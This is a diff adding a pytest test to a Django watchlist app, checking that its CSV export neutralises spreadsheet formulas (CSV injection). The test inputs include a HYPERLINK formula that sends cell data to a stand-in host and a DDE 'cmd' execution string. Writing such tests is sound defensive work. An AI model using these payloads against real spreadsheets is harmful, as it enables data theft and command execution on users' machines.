@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from pathlib import Path
 from typing import Any
 
@@ -295,6 +297,18 @@ def test_the_map_colours_listed_countries_and_exports_carry_their_markings(a_per
     data = client.get(reverse("watchlist:export"), {"format": "json"}).json()
     assert data["rows"][0]["marking"] == "UNCLASSIFIED"
     assert AuditEvent.objects.filter(name="WatchlistExported").count() == 2
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)"])
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(a_person: Any, client_for: Any, name: str) -> None:
+    """A name from imported data that a spreadsheet would run (CSV injection) is exported as text."""
+    Country.objects.create(iso3="XFO", name=name, is_exercise=True)
+    client = client_for(a_person(roles=["analyst"], username="ann"))
+    export = client.get(reverse("watchlist:export"), {"format": "csv"}).content.decode()
+    (row,) = [r for r in csv.reader(io.StringIO(export)) if len(r) > 2 and r[1] == "XFO"]
+    assert row[2] == "'" + name
+    assert client.get(reverse("watchlist:export"), {"format": "json"}).json()["rows"][0]["name"] == name
 
 
 @pytest.mark.django_db
